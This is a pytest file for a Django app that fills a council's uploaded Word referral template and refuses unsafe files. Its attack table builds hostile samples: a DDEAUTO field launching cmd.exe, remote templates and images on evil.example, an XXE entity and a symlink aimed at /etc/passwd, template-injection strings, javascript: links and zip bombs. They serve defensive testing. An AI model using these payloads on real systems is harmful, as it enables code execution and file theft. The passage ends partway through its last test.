"""An authority's own form: ordinary ones are filled, everything else is refused with a sentence, and quickly."""

import io
import random
import stat
import time
import warnings
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from docx import Document
from docx.oxml import parse_xml
from docx.shared import Pt

from kith.audit.models import Entry
from kith.concerns.documents import NotUsable, fill_template, kept_form
from kith.concerns.models import ReferralTemplate
from kith.concerns.tests.test_referral import WORD, begun, complete
from kith.concerns.word_form import read_form
from kith.concerns.word_lists import R, W
from kith.desk.tests.factories import fresh

KEYS = ["harm", "needs", "about-the-person"]
MAIN = "word/document.xml"
RELS = "word/_rels/document.xml.rels"
TYPES = "[Content_Types].xml"


def saved(document) -> bytes:
    made = io.BytesIO()
    document.save(made)
    return made.getvalue()


def form_file(*lines, header="") -> bytes:
    document = Document()
    for line in lines:
        document.add_paragraph(line)
    if header:
        document.sections[0].header.paragraphs[0].text = header
    return saved(document)


FORM = form_file("{{ harm }}")


def repacked(content: bytes, without=(), **parts: bytes) -> bytes:
    """The package with these parts put in or in the place of others."""
    old, made = zipfile.ZipFile(io.BytesIO(content)), io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name not in parts and name not in without:
                new.writestr(name, old.read(name))
        for name, data in parts.items():
            new.writestr(name, data)
    return made.getvalue()


def part(content: bytes, name: str) -> bytes:
    return zipfile.ZipFile(io.BytesIO(content)).read(name)


def changed(name: str, old: bytes, new: bytes, content: bytes = FORM) -> bytes:
    assert old in part(content, name)
    return repacked(content, **{name: part(content, name).replace(old, new, 1)})


def within(xml: str, content: bytes = FORM) -> bytes:
    """The form with this at the beginning of its body."""
    names = f'xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="{W}" xmlns:r="{R}"'
    wrapped = (
        xml.replace(">", f" {names}>", 1)
        if "/>" not in xml.split(">")[0] + ">"
        else xml.replace("/>", f" {names}/>", 1)
    )
    return changed(MAIN, b"<w:body>", b"<w:body>" + wrapped.encode(), content)


def related(relationship: str, content: bytes = FORM) -> bytes:
    return changed(RELS, b"</Relationships>", relationship.encode() + b"</Relationships>", content)


def outside(kind: str, target: str, mode='TargetMode="External"') -> bytes:
    return related(f'<Relationship Id="rIdX" Type="{R}/{kind}" Target="{target}" {mode}/>')


def fields(*codes: str) -> str:
    runs = "".join(f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in codes)
    end = '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
    return f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}{end}</w:p>'


def decoy() -> bytes:
    """A harmless word/document.xml, while the package points to another part."""
    content = changed(TYPES, b"/word/document.xml", b"/word/real.bin")
    content = changed("_rels/.rels", b"word/document.xml", b"word/real.bin", content)
    real = part(FORM, MAIN).replace(b"{{ harm }}", b"{{ 7 * 7 }}")
    return repacked(content, **{"word/real.bin": real, "word/_rels/real.bin.rels": part(FORM, RELS)})


def packed(*entries, method=zipfile.ZIP_DEFLATED) -> bytes:
    """The form with entries as they are given, name twice or not."""
    made = io.BytesIO(FORM)
    with warnings.catch_warnings(), zipfile.ZipFile(made, "a", method) as package:
        warnings.simplefilter("ignore")  # that a name stands twice is the point
        for info, data in entries:
            package.writestr(info, data)
    return made.getvalue()


def symlink() -> bytes:
    info = zipfile.ZipInfo("word/media/a.png")
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    return packed((info, b"/etc/passwd"))


def encrypted() -> bytes:
    content = bytearray(FORM)
    at = content.index(b"PK\x01\x02")
    content[at + 8] |= 1
    return bytes(content)


def filled(content: bytes, **texts) -> Document:
    """The form as it is kept and then filled, opened as the receiver opens it."""
    kept, _ = kept_form(content, KEYS)
    return Document(io.BytesIO(fill_template(kept, {"harm": "H", "needs": "N", "about_the_person": "A"} | texts)))


# Forms as they come


def test_places_are_filled_wherever_a_form_has_text():
    document = Document()
    document.add_paragraph("Harm: {{ harm }}.")
    table = document.add_table(rows=1, cols=2)
    table.cell(0, 0).text = "{{needs}}"
    inner = table.cell(0, 1).add_table(rows=1, cols=1)
    inner.cell(0, 0).text = "{{  about_the_person  }} and {{ harm }}"
    document.sections[0].header.paragraphs[0].text = "{{ marking }}"
    other = document.add_section()
    other.header.is_linked_to_previous = False
    other.header.paragraphs[0].text = "second {{ marking }}"
    other.footer.paragraphs[0].text = "{{ reference }}"
    content = saved(document)
    assert kept_form(content, KEYS)[1] == ["about_the_person", "harm", "marking", "needs", "reference"]
    made = filled(content, marking="OFFICIAL", reference="K-1")
    assert made.paragraphs[0].text == "Harm: H."
    assert made.tables[0].cell(0, 0).text == "N"
    assert made.tables[0].cell(0, 1).tables[0].cell(0, 0).text == "A and H"
    assert [s.header.paragraphs[0].text for s in made.sections] == ["OFFICIAL", "second OFFICIAL"]
    assert made.sections[1].footer.paragraphs[0].text == "K-1"


def test_a_place_that_word_split_takes_the_form_of_its_first_run():
    document = Document()
    paragraph = document.add_paragraph("Before ")
    for number, text in enumerate(("{", "{ ha", "rm", " }", "} after {{ ne", "eds }}")):
        paragraph.add_run(text).font.size = Pt(10 + number)
    made = filled(saved(document), harm="One\nTwo").paragraphs[0]
    assert made.text == "Before One\nTwo after N"
    assert [(run.text, run.font.size) for run in made.runs if run.text] == [
        ("Before ", None),
        ("One\nTwo", Pt(10)),
        (" after N", Pt(14)),
    ]
    assert made._p.xpath("count(.//w:br)") == 1


def test_a_text_box_is_filled_apart_from_the_paragraph_around_it():
    box = f'<w:p xmlns:w="{W}" xmlns:v="urn:schemas-microsoft-com:vml"><w:r><w:t>{{{{ ha</w:t></w:r><w:r><w:pict><v:shape><v:textbox><w:txbxContent><w:p><w:r><w:t>{{{{ needs }}}}</w:t></w:r></w:p></w:txbxContent></v:textbox></v:shape></w:pict></w:r><w:r><w:t>rm }}}}</w:t></w:r></w:p>'
    document = Document()
    document.element.body.insert(0, parse_xml(box))
    made = filled(saved(document)).element.body
    assert ["".join(p.xpath("./w:r/w:t/text()")) for p in made.xpath(".//w:p")] == ["H", "N"]


def test_a_text_is_a_text_and_never_filled_again():
    said = "{{ needs }} {{ 7 * 7 }} {% raw %} <w:br/> & “so”"
    made = filled(form_file("{{ harm }}{{ needs }}"), harm=said)
    assert made.paragraphs[0].text == said + "N"
    odd = filled(FORM, harm="a\x00b\x0bc\ud800d\r\ne\tf")
    assert odd.paragraphs[0].text == "ab\ncd\ne f"


def test_character_references_and_cdata_are_read_as_word_reads_them():
    for written in (b"&#123;&#123; harm }}", b"<![CDATA[{{ harm }}]]>", b"{<!-- -->{ harm }}"):
        assert filled(changed(MAIN, b"{{ harm }}", written)).paragraphs[0].text == "H"


def test_pictures_links_and_counting_fields_may_stay():
    document = Document()
    document.add_paragraph("{{ harm }}")
    png = b"\x89PNG\r\n\x1a\n" + bytes.fromhex(
        "0000000d4948445200000001000000010802000000907753de0000000c4944415408d763f8cfc000000301010018dd8db00000000049454e44ae426082"
    )
    document.add_picture(io.BytesIO(png))
    content = saved(document)
    content = changed(
        RELS,
        b"</Relationships>",
        f'<Relationship Id="rIdX" Type="{R}/hyperlink" Target="https://thornmere.example/prevent?a=1&amp;b=2" TargetMode="External"/><Relationship Id="rIdM" Type="{R}/hyperlink" Target="mailto:prevent.lead@thornmere.example" TargetMode="External"/></Relationships>'.encode(),
        content,
    )
    content = within('<w:p><w:hyperlink r:id="rIdM"><w:r><w:t>Write to us</w:t></w:r></w:hyperlink></w:p>', content)
    content = within('<w:p><w:hyperlink r:id="rIdX"><w:r><w:t>{{ needs }}</w:t></w:r></w:hyperlink></w:p>', content)
    for code in (
        " PAGE ",
        r"NUMPAGES \* MERGEFORMAT",
        r'DATE \@ "d MMMM yyyy"',
        "FORMTEXT",
        r'HYPERLINK "https://a.example/x" \o "tip"',
        'HYPERLINK "mailto:prevent.lead@thornmere.example"',
        'HYPERLINK "tel:+441632960201"',
    ):
        content = within(fields(code[:3], code[3:]), content)
    made = filled(content)
    assert (
        len(made.inline_shapes) == 1
        and made.part.related_parts[made.inline_shapes[0]._inline.xpath(".//a:blip/@r:embed")[0]].blob == png
    )
    links = [r.target_ref for r in made.part.rels.values()]
    assert "https://thornmere.example/prevent?a=1&b=2" in links and "mailto:prevent.lead@thornmere.example" in links
    assert "N" in made.element.body.xpath("string(.//w:hyperlink)")


def test_who_wrote_the_form_is_neither_kept_nor_given_out():
    document = Document()
    paragraph = document.add_paragraph("{{ harm }}")
    document.add_comment(paragraph.runs, text="ask Zebedee first", author="Zebedee Author", initials="ZA")
    document.core_properties.author = document.core_properties.last_modified_by = "Zebedee Author"
    document.core_properties.comments = "by Zebedee"
    document.core_properties.title = "Our form"
    kept, _ = kept_form(saved(document), KEYS)
    for content in (kept, fill_template(kept, {"harm": "H"})):
        package = zipfile.ZipFile(io.BytesIO(content))
        assert not any(b"Zebedee" in package.read(name) for name in package.namelist())
        assert not any("comment" in name or "custom" in name or "thumbnail" in name for name in package.namelist())
        assert not Document(io.BytesIO(content)).element.body.xpath(".//w:commentReference")
        properties = Document(io.BytesIO(content)).core_properties
        assert (properties.author, properties.last_modified_by, properties.title) == ("", "", "Our form")


def test_what_a_form_does_without_is_left_behind():
    content = related(
        f'<Relationship Id="p" Type="{R}/printerSettings" Target="p.bin"/>',
        within('<w:p><w:pPr><w:sectPr><w:printerSettings r:id="p"/></w:sectPr></w:pPr></w:p>'),
    )
    made = filled(repacked(content, **{"word/p.bin": b"printer of Zebedee"}))
    assert not made.element.body.xpath(".//w:printerSettings")
    assert not any("printer" in r.reltype for r in made.part.rels.values())


def test_what_is_kept_is_written_anew_and_stands_every_look_again():
    kept, used = kept_form(form_file("{{ harm }}", header="{{ marking }}"), KEYS)
    again, used_again = kept_form(kept, KEYS)
    assert used == used_again
    names = zipfile.ZipFile(io.BytesIO(kept)).namelist()
    assert names == zipfile.ZipFile(io.BytesIO(again)).namelist() and len(names) == len(set(names))


# Forms that are more than a form

ONE = "<w:p><w:r><w:t>x</w:t></w:r></w:p>"
ATTACKS = {
    "not a zip": (b"not a zip", "not a Word document"),
    "an old document or a password": (b"\xd0\xcf\x11\xe0" + b"0" * 600, "password"),
    "a password in the zip": (encrypted(), "password"),
    "nothing to fill": (form_file("nothing to fill"), "names no place"),
    "an unknown place": (form_file("{{ harm }} {{ secret }}"), "does not know: “secret”"),
    "an unknown place in a header": (form_file("{{ harm }}", header="{{ secret }}"), "does not know: “secret”"),
    "attributes": (form_file("{{ harm.__class__.__mro__ }}"), "does not know"),
    "filters": (form_file("{{ harm|attr('x') }}"), "does not know"),
    "sums in character references": (changed(MAIN, b"{{ harm }}", b"&#123;&#123; 7*7 }}"), "“7\\*7”"),
    "sums in CDATA": (changed(MAIN, b"{{ harm }}", b"<![CDATA[{]]><![CDATA[{ 7*7 }}]]>"), "“7\\*7”"),
    "sums in a split run": (changed(MAIN, b"{{ harm }}", b"{</w:t></w:r><w:r><w:t>{ 7*7 }}"), "“7\\*7”"),
    "a long text": (form_file("{{ 'a'*300000000 }}"), "does not know"),
    "nested ranges": (
        form_file("{% for a in range(99999) %}{% for b in range(99999) %}x{% endfor %}{% endfor %}"),
        "template command",
    ),
    "a large number": (form_file("{{ 10**(10**8) }}"), "does not know"),
    "a hidden command": (form_file("{# hidden #}{{ harm }}"), "template command"),
    "a place without an end": (form_file("{{ harm }} {{ needs"), "not closed: “{{ needs”"),
    "a place over two paragraphs": (form_file("{{ harm }} {{ ne", "eds }}"), "not closed"),
    "too many places": (form_file("{{ harm }}" * 201), "more than 200 places"),
    "UTF-7": (changed(MAIN, b"UTF-8", b"UTF-7"), "not written in UTF-8"),
    "UTF-7 with places": (
        repacked(
            FORM,
            **{MAIN: part(FORM, MAIN).replace(b"UTF-8", b"UTF-7").replace(b"{{ harm }}", b"+AHsAew- 7*7 +AH0AfQ-")},
        ),
        "not written in UTF-8",
    ),
    "UTF-16": (
        repacked(FORM, **{MAIN: part(FORM, MAIN).decode().replace("UTF-8", "UTF-16").encode("utf-16")}),
        "not written in UTF-8",
    ),
    "UTF-16 without saying so": (
        repacked(FORM, **{MAIN: part(FORM, MAIN).decode().partition("?>")[2].strip().encode("utf-16-le")}),
        "not written in UTF-8",
    ),
    "a decoy": (decoy(), "does not use: “word/document.xml”"),
    "a decoy alone": (repacked(decoy(), without=[MAIN, RELS]), "does not know: “7 \\* 7”"),
    "entities": (
        repacked(
            FORM,
            **{MAIN: part(FORM, MAIN).replace(b"<w:document", b'<!DOCTYPE a [<!ENTITY b "{{ 7 }}">]><w:document', 1)},
        ),
        "DOCTYPE",
    ),
    "an entity of nobody": (changed(MAIN, b"{{ harm }}", b"&b;"), "damaged"),
    "entities in the list of kinds": (
        repacked(FORM, **{TYPES: b'<!DOCTYPE a SYSTEM "file:///etc/passwd"><Types/>'}),
        "DOCTYPE",
    ),
    "malformed": (repacked(FORM, **{MAIN: b"<w:document"}), "damaged"),
    "malformed, many": (repacked(FORM, **{MAIN: b"<" * 90_000}), "damaged"),
    "malformed styles": (repacked(FORM, **{"word/styles.xml": b"\xff"}), "damaged"),
    "malformed relationships": (repacked(FORM, **{RELS: b"<a><b></a>"}), "damaged"),
    "malformed properties": (repacked(FORM, **{"docProps/core.xml": b"x"}), "damaged"),
    "deep": (within("<w:p>" + "<w:r>" * 3000 + "</w:r>" * 3000 + "</w:p>"), "damaged"),
    "a wrong list of kinds": (repacked(FORM, **{TYPES: b"<a/>"}), "damaged"),
    "no list of kinds": (repacked(FORM, without=[TYPES]), "not a Word document"),
    "kinds without names": (repacked(FORM, **{TYPES: b"<Types><Override/><Default/></Types>"}), "damaged"),
    "no main part": (repacked(FORM, **{"_rels/.rels": b"<Relationships/>"}), "not a Word document"),
    "a main part that is not there": (repacked(FORM, without=[MAIN]), "damaged"),
    "a header for a main part": (
        changed(MAIN, b"w:document", b"w:hdr", changed(MAIN, b"</w:document>", b"</w:hdr>")),
        "damaged",
    ),
    "a part twice": (packed((MAIN, part(FORM, MAIN))), "damaged"),
    "a part twice in capitals": (packed((MAIN.upper(), part(FORM, MAIN))), "damaged"),
    "a symbolic link": (symlink(), "damaged"),
    "another way of packing": (packed(("word/media/a.png", b"x"), method=zipfile.ZIP_LZMA), "damaged"),
    "an archive within": (repacked(FORM, **{"word/media/a.png": FORM}), "another file inside"),
    "many files": (repacked(FORM, **{f"word/a{n}.xml": b"<a/>" for n in range(400)}), "more than a form"),
    "much in little": (repacked(FORM, **{MAIN: b" " * 7_000_000}), "more than a form"),
    "more than fits": (repacked(FORM, **{f"word/{n}.xml": b"0" * 90_000 for n in range(100)}), "more than a form"),
    "many attributes": (
        repacked(FORM, **{MAIN: b"<a " + b" ".join(b'a%d=""' % n for n in range(50_000)) + b"/>"}),
        "more than a form",
    ),
    "many namespaces": (
        repacked(FORM, **{MAIN: b"<a>" + b"".join(b'<a xmlns="%d"/>' % n for n in range(2_001)) + b"</a>"}),
        "more than a form",
    ),
    "many elements": (
        repacked(FORM, **{MAIN: b"<a>" + b"".join(b"<b%d/>" % (n % 997) for n in range(310_000)) + b"</a>"}),
        "more than a form",
    ),
    "a macro that nobody asks for": (
        repacked(FORM, **{"word/vbaProject.bin": b"x"}),
        "does not use: “word/vbaproject.bin”",
    ),
    "a macro": (
        repacked(
            related(
                '<Relationship Id="v" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="v.bin"/>'
            ),
            **{"word/v.bin": b"x"},
        ),
        "macro",
    ),
    "a document with macros": (
        changed(
            TYPES,
            b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main",
            b"application/vnd.ms-word.document.macroEnabled.main",
        ),
        "macros",
    ),
    "a template": (changed(TYPES, b"document.main+xml", b"template.main+xml"), "template"),
    "strict": (
        changed(
            "_rels/.rels",
            b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument",
            b"http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument",
        ),
        "Strict",
    ),
    "an embedded object": (
        repacked(related(f'<Relationship Id="v" Type="{R}/oleObject" Target="v.bin"/>'), **{"word/v.bin": b"x"}),
        "embedded object",
    ),
    "a chart": (
        repacked(related(f'<Relationship Id="v" Type="{R}/chart" Target="c.xml"/>'), **{"word/c.xml": b"<a/>"}),
        "“chart”",
    ),
    "a picture of another kind": (
        repacked(
            changed(
                TYPES,
                b"</Types>",
                b'<Default Extension="emf" ContentType="image/x-emf"/></Types>',
                related(f'<Relationship Id="v" Type="{R}/image" Target="a.emf"/>'),
            ),
            **{"word/a.emf": b"x"},
        ),
        "PNG, JPEG or GIF",
    ),
    "a picture that is none": (
        repacked(
            changed(
                TYPES,
                b"</Types>",
                b'<Default Extension="png" ContentType="image/png"/></Types>',
                related(f'<Relationship Id="v" Type="{R}/image" Target="a.png"/>'),
            ),
            **{"word/a.png": b"<svg/>"},
        ),
        "PNG, JPEG or GIF",
    ),
    "an outside picture": (outside("image", "https://evil.example/a.png"), "from elsewhere: “https://evil"),
    "an outside picture in single quotes": (
        outside("image", "https://evil.example/a.png", "TargetMode='External'"),
        "from elsewhere",
    ),
    "an outside picture in references": (
        outside("image", "https://evil.example/a.png", 'TargetMode="&#69;xternal"'),
        "from elsewhere",
    ),
    "an outside picture in small letters": (
        outside("image", "https://evil.example/a.png", 'TargetMode="external"'),
        "from elsewhere",
    ),
    "an outside template": (
        outside("attachedTemplate", "https://evil.example/a.dotm", "TargetMode='External'"),
        "tied to a template",
    ),
    "an outside part of a document": (outside("subDocument", "https://evil.example/a.docx"), "another document"),
    "an outside chunk": (outside("aFChunk", "https://evil.example/a.html"), "another document"),
    "an outside list of letters": (outside("mailMergeSource", "https://evil.example/a.csv"), "mail merge"),
    "an outside frame": (outside("frame", "https://evil.example/a.html"), "from elsewhere"),
    "an outside object": (outside("oleObject", "https://evil.example/a.html!x"), "embedded object"),
    "mail with a text": (outside("hyperlink", "mailto:a@thornmere.example?body=x"), "begin with https"),
    "mail to two": (outside("hyperlink", "mailto:a@thornmere.example,b@evil.example"), "begin with https"),
    "mail with hidden signs": (outside("hyperlink", "mailto:a%0Ab@thornmere.example"), "begin with https"),
    "a number with more behind it": (outside("hyperlink", "tel:999;ext=x"), "begin with https"),
    "a link that runs something": (outside("hyperlink", "javascript:alert(1)"), "begin with https"),
    "a field that mails a text": (within(fields(r'HYPERLINK "mailto:a@b.example?body=x"')), "a link to something else"),
    "a link to a share": (outside("hyperlink", "file://evil.example/share"), "begin with https"),
    "a link to a share as Windows writes it": (outside("hyperlink", "\\\\evil.example\\share"), "begin with https"),
    "a link without a lock": (outside("hyperlink", "http://evil.example"), "begin with https"),
    "a link with a name": (outside("hyperlink", "https://thornmere.example@evil.example/"), "begin with https"),
    "a link that is said to lie inside": (outside("hyperlink", "https://evil.example", ""), "begin with https"),
    "a link used as a picture": (
        changed(
            MAIN,
            b"<w:body>",
            f'<w:body><w:p><w:r><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="{R}" r:link="rIdX"/></w:r></w:p>'.encode(),
            outside("hyperlink", "https://evil.example/a.png"),
        ),
        "something besides",
    ),
    "a picture by its address": (
        within(
            '<w:p xmlns:v="urn:schemas-microsoft-com:vml"><w:r><w:pict><v:shape><v:imagedata src="https://evil.example/a.png"/></v:shape></w:pict></w:r></w:p>'
        ),
        "from elsewhere",
    ),
    "outside, in the settings": (
        repacked(
            FORM,
            **{
                "word/_rels/settings.xml.rels": f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a" Type="{R}/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode=\'External\'/></Relationships>'.encode()
            },
        ),
        "tied to a template",
    ),
    "outside, from nobody": (
        repacked(FORM, **{"word/_rels/x.xml.rels": b'<R Type="http://x/attachedTemplate" TargetMode="External"/>'}),
        "does not use",
    ),
    "a template in the settings": (
        changed("word/settings.xml", b"<w:zoom", b"<w:attachedTemplate/><w:zoom"),
        "tied to a template",
    ),
    "a mail merge": (changed("word/settings.xml", b"<w:zoom", b"<w:mailMerge/><w:zoom"), "mail merge"),
    "a chunk": (within('<w:altChunk r:id="a"/>'), "another document"),
    "a part of a document": (within('<w:subDoc r:id="a"/>'), "another document"),
    "an object": (within("<w:p><w:r><w:object/></w:r></w:p>"), "embedded object"),
    "a linked object": (
        within('<w:p><w:r><w:pict><o:OLEObject Type="Link" ProgID="Package"/></w:pict></w:r></w:p>'),
        "embedded object",
    ),
    "a control": (within("<w:p><w:r><w:pict><w:control/></w:pict></w:r></w:p>"), "ActiveX"),
    "a video": (
        within(
            '<w:p><wp15:webVideoPr xmlns:wp15="http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing" embeddedHtml="x"/></w:p>'
        ),
        "webVideoPr",
    ),
    "a name in a mark": (within('<w:p><w:bookmarkStart w:id="1" w:author="Z"/></w:p>'), "tracked changes"),
    "a field’s code with something inside": (
        within(fields("PAGE<w:noBreakHyphen/>")),
        "field that Kith cannot read",
    ),
    "a relationship of no kind": (related("<a/>"), "damaged"),
    "a relationship twice": (related(f'<Relationship Id="rId1" Type="{R}/styles" Target="styles.xml"/>'), "damaged"),
    "a part of two kinds": (related(f'<Relationship Id="a" Type="{R}/header" Target="styles.xml"/>'), "damaged"),
    "a part at the top": (
        changed(
            "_rels/.rels",
            b"</Relationships>",
            f'<Relationship Id="a" Type="{R}/styles" Target="word/styles.xml"/></Relationships>'.encode(),
        ),
        "“styles”",
    ),
    "tracked changes": (
        within('<w:p><w:ins w:id="1" w:author="Z"><w:r><w:t>x</w:t></w:r></w:ins></w:p>'),
        "tracked changes",
    ),
    "tracked formats": (within("<w:p><w:pPr><w:pPrChange/></w:pPr></w:p>"), "tracked changes"),
    "DDEAUTO": (within(fields(r'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"')), "the field “DDEAUTO”"),
    "DDEAUTO in pieces": (within(fields("DD", "EAU", 'TO c:\\\\x "/k calc"')), "the field “DDEAUTO”"),
    "DDEAUTO in references": (within(fields("&#68;DEAUTO x")), "the field “DDEAUTO”"),
    "INCLUDEPICTURE": (within(fields(r'INCLUDEPICTURE "https://evil.example/a.png" \d')), "the field “INCLUDEPICTURE”"),
    "a simple field": (
        within('<w:p><w:fldSimple w:instr="INCLUDETEXT &quot;https://evil.example&quot;"/></w:p>'),
        "the field “INCLUDETEXT”",
    ),
    "a field that links to a share": (within(fields(r'HYPERLINK "\\\\evil.example\\share"')), "https"),
    "a field with a second address": (within(fields(r'HYPERLINK "https://a.example" "file://evil.example"')), "https"),
    "a field with a hidden quote": (within(fields(r'HYPERLINK \o "a\" "file://evil.example"')), "https"),
    "a field within a field’s code": (
        within(
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>PAGE</w:instrText></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r></w:p>'
        ),
        "field that Kith cannot read",
    ),
    "a field whose code reads two ways": (
        changed(
            MAIN,
            b"<w:body>",
            b'<w:body><w:p xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><w:r><w:fldChar w:fldCharType="begin"/></w:r><mc:AlternateContent><mc:Choice Requires="zz"><w:r><w:instrText>PAGE </w:instrText></w:r></mc:Choice></mc:AlternateContent><w:r><w:instrText>DDEAUTO x</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
        ),
        "field that Kith cannot read",
    ),
    "a field whose code is text": (
        within(
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>PAGE</w:instrText></w:r><w:r><w:t>DDEAUTO</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        ),
        "field that Kith cannot read",
    ),
    "a code outside of a field": (
        within("<w:p><w:r><w:instrText>DDEAUTO x</w:instrText></w:r></w:p>"),
        "field that Kith cannot read",
    ),
    "a field without an end": (
        changed(MAIN, b"<w:sectPr", b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r></w:p><w:sectPr'),
        "field that Kith cannot read",
    ),
    "a field in a header": (
        repacked(
            form_file("{{ harm }}", header="x"),
            **{
                "word/header1.xml": part(form_file("{{ harm }}", header="x"), "word/header1.xml").replace(
                    b"<w:t>x", b"<w:instrText>DDE x</w:instrText><w:t>x"
                )
            },
        ),
        "field that Kith cannot read",
    ),
}


@pytest.mark.parametrize(("content", "sentence"), ATTACKS.values(), ids=ATTACKS)
def test_a_form_that_is_more_than_a_form_is_refused_with_a_sentence(content, sentence):
    with pytest.raises(NotUsable, match=sentence) as refused:
        kept_form(content, KEYS)
    assert str(refused.value).endswith((".", "them."))


def test_a_large_file_is_refused_before_it_is_opened():
    started = time.perf_counter()
    with pytest.raises(NotUsable, match="larger than 2 MB"):
        kept_form(FORM + b"0" * 30_000_000, KEYS)
    assert time.perf_counter() - started < 0.5


def test_a_form_torn_anywhere_is_refused_with_a_sentence_or_read():
    chance = random.Random(7)
    for _ in range(150):
        torn = bytearray(FORM)
        for _ in range(chance.choice((1, 3, 30))):
            torn[chance.randrange(len(torn))] = chance.randrange(256)
        try:
            kept_form(bytes(torn), KEYS)
        except NotUsable:
            pass


def seconds(content: bytes) -> float:
    """Of the processor, so that others who work on it do not count."""
    best = 60.0
    for _ in range(3):
        started = time.process_time()
        try:
            kept_form(content, KEYS)
        except NotUsable:
            pass
        best = min(best, time.process_time() - started)
    return best


def body(xml: bytes) -> bytes:
    """The form with this text as its only body, of hardly squeezable length."""
    start, _, rest = part(FORM, MAIN).partition(b"<w:body>")
    return repacked(FORM, **{MAIN: start + b"<w:body>" + xml + b"</w:body></w:document>"})


def runs(number: int, text: bytes) -> bytes:
    return body(b"<w:p>" + b"".join(b"<w:r><w:t>%d%s</w:t></w:r>" % (n, text) for n in range(number)) + b"</w:p>")


@pytest.mark.parametrize(
    "of",
    [
        lambda n: runs(n * 100, b"x"),
        lambda n: runs(n * 100, b"{x}"),
        lambda n: runs(n * 100, b"}}"),
        lambda n: body(b"<w:p><w:r><w:t>" + b"{{" * (n * 2000) + b"</w:t></w:r></w:p>"),
        lambda n: body(b"<w:p><w:r><w:t>" + b"&lt;{" * (n * 1000) + b"</w:t></w:r></w:p>"),
        lambda n: body(b"<" * (n * 1000)),
        lambda n: body(
            b"".join(
                b"<w:p><w:r><w:fldChar w:fldCharType='begin'/><w:instrText>PAGE%d</w:instrText></w:r></w:p>" % i
                for i in range(n * 50)
            )
        ),
        lambda n: body(b"<w:p><w:fldSimple w:instr='HYPERLINK " + b"&quot;x&quot; \\\\l " * (n * 500) + b"'/></w:p>"),
    ],
)
def test_four_times_the_size_takes_about_four_times_the_time(of):
    little, much = seconds(of(50)), seconds(of(200))
    assert much < 9 * little + 0.1, "twice the size may take three times as long, and no longer"
    assert much < 3


def test_filling_takes_as_long_as_the_form_is_long():
    def took(number):
        form = read_form(form_file(*["{{ harm }}"] * number))
        started = time.process_time()
        form.fill({"harm": "line\n" * 90})
        return time.process_time() - started

    assert took(200) < 9 * took(50) + 0.1


@pytest.mark.parametrize("text", ["\n" * 101, "x" * 5_001])
def test_texts_that_are_too_long_for_the_form_are_refused(text):
    form = read_form(form_file(*["{{ harm }}"] * 200))
    with pytest.raises(NotUsable, match="too long for this form"):
        form.fill({"harm": text})


# At the door


@pytest.mark.django_db
def test_the_authoritys_own_form_is_filled(client, cast):
    consultation, referral = begun(client, cast)
    complete(client, consultation, referral, harm="<b>2 < 3 & “so”</b>\nsecond line")
    fresh(client, cast["carys"])
    upload = SimpleUploadedFile("form.docx", form_file("Harm: {{ harm }}", header="{{ marking }}"), WORD)
    page = client.post(reverse("concerns:referral-template"), {"file": upload}, follow=True)
    assert "a place for 1 of the 13 headings" in page.content.decode()
    fresh(client, cast["amina"])
    made = client.get(reverse("concerns:referral-docx", args=[consultation.reference]) + "?form=own")
    document = Document(io.BytesIO(made.content))
    assert document.paragraphs[0].text == "Harm: <b>2 < 3 & “so”</b>\nsecond line"
    assert document.sections[0].header.paragraphs[0].text == "OFFICIAL-SENSITIVE"


@pytest.mark.django_db
@pytest.mark.parametrize("name", ["malformed", "a wrong list of kinds", "an outside picture", "not a zip"])
def test_a_refused_form_gives_the_page_with_a_sentence_and_keeps_the_old_one(client, cast, name):
    content, _ = ATTACKS[name]
    fresh(client, cast["carys"])
    client.post(reverse("concerns:referral-template"), {"file": SimpleUploadedFile("form.docx", FORM, WORD)})
    page = client.post(reverse("concerns:referral-template"), {"file": SimpleUploadedFile("form.docx", content, WORD)})
    assert page.status_code == 200 and "govuk-error-message" in page.content.decode()
    assert bytes(ReferralTemplate.objects.get().content) == kept_form(FORM, KEYS)[0]


@pytest.mark.django_db
def test_a_file_of_30_mb_is_refused_at_the_door(client, cast):
    fresh(client, cast["carys"])
    started = time.perf_counter()
    upload = SimpleUploadedFile("form.docx", FORM + b"0" * 30_000_000, WORD)
    page = client.post(reverse("concerns:referral-template"), {"file": upload})
    assert "larger than 2 MB" in page.content.decode()
    assert time.perf_counter() - started < 5


@pytest.mark.django_db
def test_uploading_asks_for_a_fresh_sign_in(client, cast):
    fresh(client, cast["carys"])
    session = client.session
    session["fresh_at"] = 0
    session.save()
    address = reverse("concerns:referral-template")
    upload = SimpleUploadedFile("form.docx", FORM, WORD)
    for answer in (
        client.get(address),
        client.post(address, {"file": upload}),
        client.post(address, {"act": "remove"}),
    ):
        assert "confirm" in answer["Location"]
    assert not ReferralTemplate.objects.exists()


@pytest.mark.django_db
def test_a_kept_form_is_looked_through_again_and_kiths_own_document_offered(client, cast):
    consultation, referral = begun(client, cast)
    complete(client, consultation, referral)
    # Kept before the rules were as strict as today.
    content, _ = ATTACKS["an outside picture in single quotes"]
